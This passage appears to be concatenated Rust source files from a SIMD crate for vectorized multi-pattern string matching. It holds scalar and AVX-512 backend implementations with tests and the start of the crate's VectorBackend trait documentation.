/// Scalar backend at the AVX2 width (8 lanes).
pub type ScalarWide8 = ScalarBackend;
/// Scalar backend at the AVX-512 / Xeon-Phi width (16 lanes).
pub type ScalarWide16 = ScalarBackend;

impl<const W: usize> VectorBackend<W> for ScalarBackend {
    type Vec = [u32; W];

    fn name() -> &'static str {
        "scalar"
    }

    fn is_available() -> bool {
        true
    }

    #[inline(always)]
    fn from_array(v: [u32; W]) -> [u32; W] {
        v
    }

    #[inline(always)]
    fn to_array(v: [u32; W]) -> [u32; W] {
        v
    }

    #[inline]
    fn windows2(input: &[u8], pos: usize) -> [u32; W] {
        assert!(
            pos + W < input.len(),
            "windows2 needs {} bytes at pos {pos}, input has {}",
            W + 1,
            input.len()
        );
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = u16::from_le_bytes([input[pos + j], input[pos + j + 1]]) as u32;
        }
        out
    }

    #[inline]
    fn windows4(input: &[u8], pos: usize) -> [u32; W] {
        assert!(
            pos + W + 3 <= input.len(),
            "windows4 needs {} bytes at pos {pos}, input has {}",
            W + 3,
            input.len()
        );
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = u32::from_le_bytes([
                input[pos + j],
                input[pos + j + 1],
                input[pos + j + 2],
                input[pos + j + 3],
            ]);
        }
        out
    }

    #[inline]
    fn gather_bytes(table: &[u8], idx: [u32; W]) -> [u32; W] {
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            let i = idx[j] as usize;
            debug_assert!(
                i + GATHER_PADDING <= table.len(),
                "gather index {i} violates the padding requirement (table len {})",
                table.len()
            );
            *slot = table[i] as u32;
        }
        out
    }

    #[inline]
    fn hash_mul_shift(v: [u32; W], mul: u32, shift: u32, mask: u32) -> [u32; W] {
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = (v[j].wrapping_mul(mul) >> shift) & mask;
        }
        out
    }

    #[inline]
    fn shr_const(v: [u32; W], n: u32) -> [u32; W] {
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = v[j] >> n;
        }
        out
    }

    #[inline]
    fn and_const(v: [u32; W], c: u32) -> [u32; W] {
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            *slot = v[j] & c;
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    type S8 = ScalarBackend;

    #[test]
    fn windows2_builds_overlapping_pairs() {
        let input = b"ABCDEFGHIJ";
        let w: [u32; 8] = <S8 as VectorBackend<8>>::windows2(input, 0);
        assert_eq!(w[0], u16::from_le_bytes([b'A', b'B']) as u32);
        assert_eq!(w[1], u16::from_le_bytes([b'B', b'C']) as u32);
        assert_eq!(w[7], u16::from_le_bytes([b'H', b'I']) as u32);
        let w1: [u32; 4] = <S8 as VectorBackend<4>>::windows2(input, 3);
        assert_eq!(w1[0], u16::from_le_bytes([b'D', b'E']) as u32);
    }

    #[test]
    fn windows4_builds_overlapping_quads() {
        let input = b"ABCDEFGHIJKL";
        let w: [u32; 8] = <S8 as VectorBackend<8>>::windows4(input, 1);
        assert_eq!(w[0], u32::from_le_bytes(*b"BCDE"));
        assert_eq!(w[7], u32::from_le_bytes(*b"IJKL"));
    }

    #[test]
    #[should_panic(expected = "windows2 needs")]
    fn windows2_out_of_bounds_panics() {
        let input = b"short";
        let _: [u32; 8] = <S8 as VectorBackend<8>>::windows2(input, 0);
    }

    #[test]
    fn gather_reads_single_bytes() {
        let mut table = vec![0u8; 64];
        table[3] = 0xaa;
        table[17] = 0x5b;
        let idx = [3u32, 17, 0, 3, 17, 0, 3, 17];
        let got: [u32; 8] = <S8 as VectorBackend<8>>::gather_bytes(&table, idx);
        assert_eq!(got, [0xaa, 0x5b, 0, 0xaa, 0x5b, 0, 0xaa, 0x5b]);
    }

    #[test]
    fn hash_mul_shift_matches_scalar_formula() {
        let v = [0x1234_5678u32, 0, 1, u32::MAX, 42, 7, 8, 9];
        let out: [u32; 8] = <S8 as VectorBackend<8>>::hash_mul_shift(v, 0x9E37_79B1, 20, 0xfff);
        for j in 0..8 {
            assert_eq!(out[j], (v[j].wrapping_mul(0x9E37_79B1) >> 20) & 0xfff);
        }
    }

    #[test]
    fn shift_and_and() {
        let v = [0b1011u32; 8];
        assert_eq!(<S8 as VectorBackend<8>>::shr_const(v, 1)[0], 0b101);
        assert_eq!(<S8 as VectorBackend<8>>::and_const(v, 0b10)[0], 0b10);
    }

    #[test]
    fn compress_store_drains_mask_in_lane_order() {
        let mut out = Vec::new();
        <S8 as VectorBackend<8>>::compress_store(0b0101_0110, 40, &mut out);
        assert_eq!(out, vec![41, 42, 44, 46]);
        <S8 as VectorBackend<8>>::compress_store(0, 99, &mut out);
        assert_eq!(out.len(), 4);
    }
}
