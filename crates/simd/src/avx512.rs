//! AVX-512 backend (16 × 32-bit lanes) — models the paper's Xeon-Phi
//! configuration.
//!
//! The Xeon-Phi 3120 used in the paper exposes 512-bit vector registers, so
//! its filtering loop processes 16 sliding windows per iteration instead of
//! the 8 that AVX2 allows. This backend reproduces that width with AVX-512F
//! instructions on CPUs that support them; on CPUs without AVX-512 the
//! 16-lane experiments fall back to [`crate::ScalarBackend`] at width 16, which is
//! functionally identical (the figure-7 harness reports which backend
//! actually ran). Its register type is `__m512i`, so chained trait ops stay
//! in `zmm` registers with no array spill between them.
//!
//! [`VectorBackend::compress_store`] maps directly onto hardware here:
//! `vpaddd` builds `base + lane` for all 16 lanes, `vpcompressd`
//! (`_mm512_maskz_compress_epi32`) packs the masked survivors to the front
//! of the register, and one unaligned store plus a `popcnt` length bump
//! publishes them — no LUT and no per-bit loop.

#[cfg(not(target_arch = "x86_64"))]
use crate::scalar::ScalarBackend;
use crate::VectorBackend;
#[cfg(all(target_arch = "x86_64", debug_assertions))]
use crate::GATHER_PADDING;

/// Zero-sized marker type selecting the AVX-512 implementation.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Avx512Backend;

#[cfg(target_arch = "x86_64")]
mod imp {
    use super::*;
    use std::arch::x86_64::*;

    #[inline]
    fn to_m512i(v: [u32; 16]) -> __m512i {
        // SAFETY: same size, unaligned load.
        unsafe { _mm512_loadu_si512(v.as_ptr() as *const __m512i) }
    }

    #[inline]
    fn from_m512i(v: __m512i) -> [u32; 16] {
        let mut out = [0u32; 16];
        // SAFETY: storeu writes 64 bytes into a 64-byte array.
        unsafe { _mm512_storeu_si512(out.as_mut_ptr() as *mut __m512i, v) };
        out
    }

    /// # Safety: AVX-512F required; 16 readable bytes at `ptr + offset`.
    #[target_feature(enable = "avx512f")]
    unsafe fn load_bytes_as_u32(ptr: *const u8, offset: usize) -> __m512i {
        let raw = _mm_loadu_si128(ptr.add(offset) as *const __m128i);
        _mm512_cvtepu8_epi32(raw)
    }

    /// # Safety: AVX-512F required and `pos + 17 <= input.len()` (the
    /// wrapper's assertion), which also bounds the two 16-byte loads.
    #[target_feature(enable = "avx512f")]
    unsafe fn windows2_avx512(input: &[u8], pos: usize) -> __m512i {
        let ptr = input.as_ptr().add(pos);
        let lo = load_bytes_as_u32(ptr, 0);
        let hi = load_bytes_as_u32(ptr, 1);
        _mm512_or_si512(lo, _mm512_slli_epi32(hi, 8))
    }

    /// # Safety: AVX-512F required and `pos + 19 <= input.len()`, which
    /// bounds the four 16-byte loads.
    #[target_feature(enable = "avx512f")]
    unsafe fn windows4_avx512(input: &[u8], pos: usize) -> __m512i {
        let ptr = input.as_ptr().add(pos);
        let b0 = load_bytes_as_u32(ptr, 0);
        let b1 = load_bytes_as_u32(ptr, 1);
        let b2 = load_bytes_as_u32(ptr, 2);
        let b3 = load_bytes_as_u32(ptr, 3);
        _mm512_or_si512(
            _mm512_or_si512(b0, _mm512_slli_epi32(b1, 8)),
            _mm512_or_si512(_mm512_slli_epi32(b2, 16), _mm512_slli_epi32(b3, 24)),
        )
    }

    /// Trampoline giving the caller AVX-512 codegen context (see the AVX2
    /// backend's equivalent for why).
    ///
    /// # Safety: AVX-512F must be available (checked by the safe `dispatch`).
    #[target_feature(enable = "avx512f")]
    unsafe fn dispatch_avx512<R>(f: impl FnOnce() -> R) -> R {
        f()
    }

    /// # Safety: AVX-512F required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx512f")]
    unsafe fn gather_bytes_avx512(table: &[u8], idx: __m512i) -> __m512i {
        let gathered = _mm512_i32gather_epi32(idx, table.as_ptr() as *const i32, 1);
        _mm512_and_si512(gathered, _mm512_set1_epi32(0xff))
    }

    /// # Safety: AVX-512F required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx512f")]
    unsafe fn gather_u16_avx512(table: &[u8], idx: __m512i) -> __m512i {
        let gathered = _mm512_i32gather_epi32(idx, table.as_ptr() as *const i32, 1);
        _mm512_and_si512(gathered, _mm512_set1_epi32(0xffff))
    }

    /// # Safety: AVX-512F required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx512f")]
    unsafe fn gather_u32_avx512(table: &[u8], idx: __m512i) -> __m512i {
        _mm512_i32gather_epi32(idx, table.as_ptr() as *const i32, 1)
    }

    /// Masked-load window comparison (see `VectorBackend::eq_window`):
    /// full 64-byte blocks compare with `vpcmpeqd` over unaligned loads
    /// (dword equality ⇔ byte equality); the remainder is read with the
    /// k-masked `vmovdqu32`, whose masked-out dwords are architecturally
    /// not accessed — the loads never touch bytes past either slice. The
    /// final `len % 4` bytes are compared scalar. With `FOLD`, both sides
    /// pass through the 32-bit SWAR ASCII fold first (AVX-512F has no byte
    /// compares, so the fold — like the equality — rides dword ops).
    ///
    /// # Safety: AVX-512F required; `a.len() == b.len()`.
    #[target_feature(enable = "avx512f")]
    unsafe fn eq_window_avx512<const FOLD: bool>(a: &[u8], b: &[u8]) -> bool {
        debug_assert_eq!(a.len(), b.len());
        let len = a.len();
        let fold = |v: __m512i| if FOLD { to_ascii_lower_avx512(v) } else { v };
        let mut i = 0usize;
        while i + 64 <= len {
            let va = fold(_mm512_loadu_si512(a.as_ptr().add(i) as *const __m512i));
            let vb = fold(_mm512_loadu_si512(b.as_ptr().add(i) as *const __m512i));
            if _mm512_cmpeq_epi32_mask(va, vb) != 0xffff {
                return false;
            }
            i += 64;
        }
        let dwords = ((len - i) / 4) as u16;
        if dwords > 0 {
            let k = (1u16 << dwords) - 1;
            // Masked-out dwords load as zero on both sides and compare equal.
            let va = fold(_mm512_maskz_loadu_epi32(k, a.as_ptr().add(i) as *const i32));
            let vb = fold(_mm512_maskz_loadu_epi32(k, b.as_ptr().add(i) as *const i32));
            if _mm512_cmpeq_epi32_mask(va, vb) != 0xffff {
                return false;
            }
            i += dwords as usize * 4;
        }
        while i < len {
            let (x, y) = if FOLD {
                (a[i].to_ascii_lowercase(), b[i].to_ascii_lowercase())
            } else {
                (a[i], b[i])
            };
            if x != y {
                return false;
            }
            i += 1;
        }
        true
    }

    /// Byte-granular ASCII lowercasing via the 32-bit SWAR form of
    /// `crate::ascii_lower_u32`: AVX-512**F** has no byte compares (those
    /// are AVX-512BW, which this backend deliberately does not require), so
    /// the uppercase-detection carries ride 32-bit adds — the masked bytes
    /// are ≤ `0x7F`, so the per-byte adds cannot carry across byte
    /// boundaries and `vpaddd` is exact.
    ///
    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn to_ascii_lower_avx512(v: __m512i) -> __m512i {
        let x80 = _mm512_set1_epi32(0x8080_8080u32 as i32);
        let hi = _mm512_and_si512(v, x80);
        let low7 = _mm512_and_si512(v, _mm512_set1_epi32(0x7f7f_7f7f));
        let ge_a = _mm512_and_si512(_mm512_add_epi32(low7, _mm512_set1_epi32(0x3f3f_3f3f)), x80);
        let gt_z = _mm512_and_si512(_mm512_add_epi32(low7, _mm512_set1_epi32(0x2525_2525)), x80);
        // is_upper = ge_a & !(gt_z | hi); vpandnd computes !a & b.
        let is_upper = _mm512_andnot_si512(_mm512_or_si512(gt_z, hi), ge_a);
        _mm512_or_si512(v, _mm512_srli_epi32(is_upper, 2))
    }

    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn hash_mul_shift_avx512(v: __m512i, mul: u32, shift: u32, mask: u32) -> __m512i {
        let x = _mm512_mullo_epi32(v, _mm512_set1_epi32(mul as i32));
        let x = _mm512_srl_epi32(x, _mm_cvtsi32_si128(shift as i32));
        _mm512_and_si512(x, _mm512_set1_epi32(mask as i32))
    }

    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn shr_const_avx512(v: __m512i, n: u32) -> __m512i {
        _mm512_srl_epi32(v, _mm_cvtsi32_si128(n as i32))
    }

    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn and_const_avx512(v: __m512i, c: u32) -> __m512i {
        _mm512_and_si512(v, _mm512_set1_epi32(c as i32))
    }

    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn test_window_bits_avx512(bytes: __m512i, windows: __m512i) -> u32 {
        let bit = _mm512_and_si512(windows, _mm512_set1_epi32(7));
        let shifted = _mm512_srlv_epi32(bytes, bit);
        let mask = _mm512_test_epi32_mask(shifted, _mm512_set1_epi32(1));
        mask as u32
    }

    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn nonzero_mask_avx512(v: __m512i) -> u32 {
        _mm512_cmpneq_epi32_mask(v, _mm512_setzero_si512()) as u32
    }

    /// `vpcompressd` candidate store (see the module docs).
    ///
    /// # Safety: AVX-512F required.
    #[target_feature(enable = "avx512f")]
    unsafe fn compress_store_avx512(mask: u32, base: u32, out: &mut Vec<u32>) {
        let m = (mask & 0xffff) as u16;
        let len = out.len();
        if out.capacity() - len < 16 {
            // Cold: Vec::reserve grows amortized, so candidate-dense inputs
            // do not reallocate per block.
            out.reserve(16);
        }
        let positions = _mm512_add_epi32(
            _mm512_set1_epi32(base as i32),
            _mm512_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15),
        );
        let packed = _mm512_maskz_compress_epi32(m, positions);
        // SAFETY: 16 lanes (64 bytes) of spare capacity were reserved above;
        // only the first popcnt(m) stored lanes are published via set_len.
        _mm512_storeu_si512(out.as_mut_ptr().add(len) as *mut __m512i, packed);
        out.set_len(len + m.count_ones() as usize);
    }

    impl VectorBackend<16> for Avx512Backend {
        type Vec = __m512i;

        fn name() -> &'static str {
            "avx512"
        }

        fn is_available() -> bool {
            std::arch::is_x86_feature_detected!("avx512f")
        }

        #[inline(always)]
        fn dispatch<R>(f: impl FnOnce() -> R) -> R {
            debug_assert!(<Avx512Backend as VectorBackend<16>>::is_available());
            // SAFETY: engines check availability at construction before any
            // dispatch; the trampoline only changes codegen flags.
            unsafe { dispatch_avx512(f) }
        }

        #[inline(always)]
        fn from_array(v: [u32; 16]) -> __m512i {
            to_m512i(v)
        }

        #[inline(always)]
        fn to_array(v: __m512i) -> [u32; 16] {
            from_m512i(v)
        }

        #[inline(always)]
        fn windows2(input: &[u8], pos: usize) -> __m512i {
            assert!(pos + 17 <= input.len(), "windows2 out of bounds");
            // SAFETY: availability checked at engine construction; the bound
            // above covers both 16-byte loads (offsets 0 and 1).
            unsafe { windows2_avx512(input, pos) }
        }

        #[inline(always)]
        fn windows4(input: &[u8], pos: usize) -> __m512i {
            assert!(pos + 19 <= input.len(), "windows4 out of bounds");
            // SAFETY: as above (offsets 0..=3).
            unsafe { windows4_avx512(input, pos) }
        }

        #[inline(always)]
        fn gather_bytes(table: &[u8], idx: __m512i) -> __m512i {
            #[cfg(debug_assertions)]
            for &i in &from_m512i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; padding
            // contract bounds the per-lane 4-byte loads.
            unsafe { gather_bytes_avx512(table, idx) }
        }

        #[inline(always)]
        fn gather_u16(table: &[u8], idx: __m512i) -> __m512i {
            #[cfg(debug_assertions)]
            for &i in &from_m512i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; padding
            // contract bounds the per-lane 4-byte loads.
            unsafe { gather_u16_avx512(table, idx) }
        }

        #[inline(always)]
        fn gather_u32(table: &[u8], idx: __m512i) -> __m512i {
            #[cfg(debug_assertions)]
            for &i in &from_m512i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; the
            // padding contract bounds the 4-byte per-lane loads.
            unsafe { gather_u32_avx512(table, idx) }
        }

        #[inline(always)]
        fn eq_window(window: &[u8], pattern: &[u8]) -> bool {
            // SAFETY: availability checked at engine construction; lengths
            // asserted equal inside, masked loads stay inside the slices.
            unsafe { eq_window_avx512::<false>(window, pattern) }
        }

        #[inline(always)]
        fn eq_window_nocase(window: &[u8], pattern: &[u8]) -> bool {
            // SAFETY: as above.
            unsafe { eq_window_avx512::<true>(window, pattern) }
        }

        #[inline(always)]
        fn to_ascii_lower(v: __m512i) -> __m512i {
            // SAFETY: availability checked at engine construction.
            unsafe { to_ascii_lower_avx512(v) }
        }

        #[inline(always)]
        fn hash_mul_shift(v: __m512i, mul: u32, shift: u32, mask: u32) -> __m512i {
            // SAFETY: availability checked at engine construction.
            unsafe { hash_mul_shift_avx512(v, mul, shift, mask) }
        }

        #[inline(always)]
        fn shr_const(v: __m512i, n: u32) -> __m512i {
            // SAFETY: availability checked at engine construction.
            unsafe { shr_const_avx512(v, n) }
        }

        #[inline(always)]
        fn and_const(v: __m512i, c: u32) -> __m512i {
            // SAFETY: availability checked at engine construction.
            unsafe { and_const_avx512(v, c) }
        }

        #[inline(always)]
        fn test_window_bits(bytes: __m512i, windows: __m512i) -> u32 {
            // SAFETY: availability checked at engine construction.
            unsafe { test_window_bits_avx512(bytes, windows) }
        }

        #[inline(always)]
        fn nonzero_mask(v: __m512i) -> u32 {
            // SAFETY: availability checked at engine construction.
            unsafe { nonzero_mask_avx512(v) }
        }

        #[inline(always)]
        fn compress_store(mask: u32, base: u32, out: &mut Vec<u32>) {
            // SAFETY: availability checked at engine construction; the kernel
            // reserves the spare capacity it over-stores into.
            unsafe { compress_store_avx512(mask, base, out) }
        }
    }
}

/// Fallback for non-x86_64 targets: scalar semantics at width 16.
#[cfg(not(target_arch = "x86_64"))]
impl VectorBackend<16> for Avx512Backend {
    type Vec = [u32; 16];

    fn name() -> &'static str {
        "avx512(unavailable)"
    }
    fn is_available() -> bool {
        false
    }
    fn from_array(v: [u32; 16]) -> [u32; 16] {
        v
    }
    fn to_array(v: [u32; 16]) -> [u32; 16] {
        v
    }
    fn windows2(input: &[u8], pos: usize) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::windows2(input, pos)
    }
    fn windows4(input: &[u8], pos: usize) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::windows4(input, pos)
    }
    fn gather_bytes(table: &[u8], idx: [u32; 16]) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::gather_bytes(table, idx)
    }
    fn hash_mul_shift(v: [u32; 16], mul: u32, shift: u32, mask: u32) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::hash_mul_shift(v, mul, shift, mask)
    }
    fn shr_const(v: [u32; 16], n: u32) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::shr_const(v, n)
    }
    fn and_const(v: [u32; 16], c: u32) -> [u32; 16] {
        <ScalarBackend as VectorBackend<16>>::and_const(v, c)
    }
}

#[cfg(all(test, target_arch = "x86_64"))]
mod tests {
    use super::*;
    use crate::scalar::ScalarBackend;

    type A16 = Avx512Backend;
    type S16 = ScalarBackend;

    fn skip() -> bool {
        !<A16 as VectorBackend<16>>::is_available()
    }

    fn a(v: <A16 as VectorBackend<16>>::Vec) -> [u32; 16] {
        <A16 as VectorBackend<16>>::to_array(v)
    }

    #[test]
    fn windows_agree_with_scalar() {
        if skip() {
            return;
        }
        let input: Vec<u8> = (0..96u8)
            .map(|i| i.wrapping_mul(73).wrapping_add(5))
            .collect();
        for pos in 0..70 {
            let a2 = a(<A16 as VectorBackend<16>>::windows2(&input, pos));
            let s2 = <S16 as VectorBackend<16>>::windows2(&input, pos);
            assert_eq!(a2, s2, "windows2 mismatch at pos {pos}");
            let a4 = a(<A16 as VectorBackend<16>>::windows4(&input, pos));
            let s4 = <S16 as VectorBackend<16>>::windows4(&input, pos);
            assert_eq!(a4, s4, "windows4 mismatch at pos {pos}");
        }
    }

    #[test]
    fn gather_and_arithmetic_agree_with_scalar() {
        if skip() {
            return;
        }
        let table: Vec<u8> = (0..4096u32).map(|i| (i * 67 % 253) as u8).collect();
        let idx: [u32; 16] = std::array::from_fn(|j| ((j * 251 + 13) % 4090) as u32);
        assert_eq!(
            a(<A16 as VectorBackend<16>>::gather_bytes(
                &table,
                <A16 as VectorBackend<16>>::from_array(idx)
            )),
            <S16 as VectorBackend<16>>::gather_bytes(&table, idx)
        );
        let v: [u32; 16] = std::array::from_fn(|j| (j as u32).wrapping_mul(0x1234_5677));
        let reg = <A16 as VectorBackend<16>>::from_array(v);
        assert_eq!(
            a(<A16 as VectorBackend<16>>::hash_mul_shift(
                reg,
                0x9E37_79B1,
                18,
                0x3fff
            )),
            <S16 as VectorBackend<16>>::hash_mul_shift(v, 0x9E37_79B1, 18, 0x3fff)
        );
        assert_eq!(
            a(<A16 as VectorBackend<16>>::shr_const(reg, 5)),
            <S16 as VectorBackend<16>>::shr_const(v, 5)
        );
        assert_eq!(
            a(<A16 as VectorBackend<16>>::and_const(reg, 0xffff)),
            <S16 as VectorBackend<16>>::and_const(v, 0xffff)
        );
    }

    #[test]
    fn masks_agree_with_scalar() {
        if skip() {
            return;
        }
        let bytes: [u32; 16] = std::array::from_fn(|j| (j as u32 * 0x41) & 0xff);
        let windows: [u32; 16] = std::array::from_fn(|j| j as u32);
        assert_eq!(
            <A16 as VectorBackend<16>>::test_window_bits(
                <A16 as VectorBackend<16>>::from_array(bytes),
                <A16 as VectorBackend<16>>::from_array(windows)
            ),
            <S16 as VectorBackend<16>>::test_window_bits(bytes, windows)
        );
        let mut v = [0u32; 16];
        v[0] = 1;
        v[9] = 2;
        v[15] = 3;
        assert_eq!(
            <A16 as VectorBackend<16>>::nonzero_mask(<A16 as VectorBackend<16>>::from_array(v)),
            <S16 as VectorBackend<16>>::nonzero_mask(v)
        );
    }

    #[test]
    fn to_ascii_lower_agrees_with_scalar_on_every_byte() {
        if skip() {
            return;
        }
        for b in 0..=255u32 {
            let v: [u32; 16] = std::array::from_fn(|j| match j % 5 {
                0 => b << (8 * (j % 4)),
                1 => b.wrapping_mul(0x0101_0101),
                2 => u32::from_le_bytes(*b"AzZ@"),
                3 => !b,
                _ => b ^ (j as u32).wrapping_mul(0x2041_8010),
            });
            let got = a(<A16 as VectorBackend<16>>::to_ascii_lower(
                <A16 as VectorBackend<16>>::from_array(v),
            ));
            let expected = <S16 as VectorBackend<16>>::to_ascii_lower(v);
            assert_eq!(got, expected, "byte {b:#04x}");
        }
    }

    #[test]
    fn compress_store_agrees_with_scalar_on_structured_masks() {
        if skip() {
            return;
        }
        let masks: Vec<u32> = (0..16)
            .map(|b| 1u32 << b)
            .chain([0, 0xffff, 0x5555, 0xaaaa, 0x00ff, 0xff00, 0x8001, 0x7ffe])
            .chain((0..64).map(|i| (i as u32).wrapping_mul(0x9E37_79B1) >> 16))
            .collect();
        for mask in masks {
            let mut expected = vec![3u32, 1];
            <S16 as VectorBackend<16>>::compress_store(mask, 77_777, &mut expected);
            let mut got = vec![3u32, 1];
            <A16 as VectorBackend<16>>::compress_store(mask, 77_777, &mut got);
            assert_eq!(got, expected, "mask {mask:#018b}");
        }
    }

    #[test]
    fn compress_store_grows_from_zero_capacity() {
        if skip() {
            return;
        }
        let mut out = Vec::new();
        <A16 as VectorBackend<16>>::compress_store(0xffff, 16, &mut out);
        let expected: Vec<u32> = (16..32).collect();
        assert_eq!(out, expected);
    }
}
