//! Vector-engine substrate: the SIMD primitives V-PATCH and Vector-DFC are
//! built on.
//!
//! The paper's vectorized filtering relies on three capabilities of modern
//! SIMD instruction sets (§III of the paper):
//!
//! * **shuffle** — permuting bytes inside a register, used to turn `W + 1`
//!   consecutive input bytes into `W` overlapping 2-byte sliding windows
//!   (Figure 2 of the paper), and likewise 4-byte windows for the third
//!   filter;
//! * **gather** — fetching one value per lane from non-contiguous memory
//!   locations (`_mm256_i32gather_epi32` on Haswell/AVX2, the 512-bit
//!   equivalent on Xeon-Phi), used to look up the cache-resident filters at
//!   `W` independent indices at once;
//! * **mask extraction** (movemask) — turning a per-lane comparison result
//!   into a scalar bitmask so the scalar part of the loop can decide which
//!   lanes passed a filter.
//!
//! [`VectorBackend`] captures exactly those operations behind a
//! width-generic, platform-independent interface with three implementations:
//!
//! | backend | lanes (`W`) | hardware | models |
//! |---|---|---|---|
//! | [`ScalarBackend`] | any | none (plain Rust loops) | portable fallback / reference semantics |
//! | [`Avx2Backend`] | 8 | AVX2 (`vpgatherdd`, `vpshufb`, `vpmovmskb`) | the paper's Haswell platform |
//! | [`Avx512Backend`] | 16 | AVX-512F | the paper's Xeon-Phi 512-bit VPU |
//!
//! Every backend produces bit-for-bit identical results (property-tested in
//! this crate); they differ only in speed. Engines are generic over
//! `B: VectorBackend<W>`, so the same V-PATCH source compiles to a scalar,
//! an 8-lane and a 16-lane binary — mirroring how the paper runs one design
//! on both Haswell and Xeon-Phi.
//!
//! # Table padding requirement
//!
//! Hardware gathers load 32 bits per lane even when only one byte is needed,
//! so [`VectorBackend::gather_bytes`] requires `table.len() >= max_index + 4`.
//! The filter structures in `mpm-dfc` / `mpm-vpatch` allocate 4 padding bytes
//! at the end of every table; the scalar backend asserts the same requirement
//! in debug builds so a violation cannot hide behind the portable path.

#![warn(missing_docs)]

pub mod avx2;
pub mod avx512;
pub mod dispatch;
pub mod scalar;

pub use avx2::Avx2Backend;
pub use avx512::Avx512Backend;
pub use dispatch::{available_backends, detect_best, BackendKind};
pub use scalar::{ScalarBackend, ScalarWide16, ScalarWide8};

/// Number of extra bytes every gather table must have after its last
/// addressable index (see the crate-level documentation).
pub const GATHER_PADDING: usize = 4;

/// Width-generic SIMD operations used by the vectorized matching engines.
///
/// `W` is the number of 32-bit lanes (8 for AVX2, 16 for AVX-512 /
/// Xeon-Phi). All operations are pure functions of their inputs; backends
/// hold no state, so the trait is implemented on zero-sized types.
pub trait VectorBackend<const W: usize>: Copy + Clone + Default + Send + Sync + 'static {
    /// Human-readable backend name (used in benchmark output).
    fn name() -> &'static str;

    /// True if the current CPU can execute this backend.
    fn is_available() -> bool;

    /// Runs `f` inside a function compiled with this backend's target
    /// features enabled.
    ///
    /// Engines wrap their whole filtering loop in `B::dispatch(...)`. This is
    /// what lets the per-operation intrinsics below inline into the loop:
    /// a `#[target_feature]` function can only be inlined into callers that
    /// also carry the feature, so without the trampoline every `gather` /
    /// `shuffle` would remain an opaque function call and the vectorized loop
    /// would lose its advantage to call overhead and register spills.
    ///
    /// The scalar backend's implementation simply calls `f`.
    #[inline(always)]
    fn dispatch<R>(f: impl FnOnce() -> R) -> R {
        f()
    }

    /// Builds `W` overlapping 2-byte little-endian windows:
    /// `out[j] = input[pos + j] | input[pos + j + 1] << 8`.
    ///
    /// This is the "input transformation" of Figure 2 in the paper,
    /// implemented with byte shuffles on the SIMD backends.
    ///
    /// # Panics
    /// Panics (at least in debug builds) if `pos + W + 1 > input.len()`.
    fn windows2(input: &[u8], pos: usize) -> [u32; W];

    /// Builds `W` overlapping 4-byte little-endian windows:
    /// `out[j] = u32::from_le_bytes(input[pos + j .. pos + j + 4])`.
    ///
    /// # Panics
    /// Panics (at least in debug builds) if `pos + W + 3 > input.len()`.
    fn windows4(input: &[u8], pos: usize) -> [u32; W];

    /// Gathers one byte per lane: `out[j] = table[idx[j]] as u32`.
    ///
    /// # Panics / Safety
    /// Requires `idx[j] as usize + GATHER_PADDING <= table.len()` for every
    /// lane. The scalar backend asserts this; the SIMD backends rely on it
    /// (they read 4 bytes per lane) and the debug assertion is kept in their
    /// safe wrappers.
    fn gather_bytes(table: &[u8], idx: [u32; W]) -> [u32; W];

    /// Gathers two consecutive bytes per lane, little-endian:
    /// `out[j] = table[idx[j]] as u32 | (table[idx[j] + 1] as u32) << 8`.
    ///
    /// This is what the paper's *filter merging* optimisation needs: with
    /// filters 1 and 2 interleaved in memory, a single gather at
    /// `2 * (window >> 3)` returns filter 1's byte in the low half and
    /// filter 2's byte in the next one (Figure 3). Same padding contract as
    /// [`VectorBackend::gather_bytes`].
    ///
    /// The default implementation performs two scalar loads per lane;
    /// hardware backends override it to reuse their 32-bit gather.
    fn gather_u16(table: &[u8], idx: [u32; W]) -> [u32; W] {
        let mut out = [0u32; W];
        for (j, slot) in out.iter_mut().enumerate() {
            let i = idx[j] as usize;
            debug_assert!(
                i + GATHER_PADDING <= table.len(),
                "gather index {i} violates the padding requirement (table len {})",
                table.len()
            );
            *slot = u16::from_le_bytes([table[i], table[i + 1]]) as u32;
        }
        out
    }

    /// Per-lane multiplicative hash: `((v * mul) >> shift) & mask`
    /// (wrapping multiplication), the hash family used by the third filter.
    fn hash_mul_shift(v: [u32; W], mul: u32, shift: u32, mask: u32) -> [u32; W];

    /// Per-lane right shift by a constant.
    fn shr_const(v: [u32; W], n: u32) -> [u32; W];

    /// Per-lane bitwise AND with a constant.
    fn and_const(v: [u32; W], c: u32) -> [u32; W];

    /// Tests, for every lane, bit `windows[j] & 7` of the gathered filter
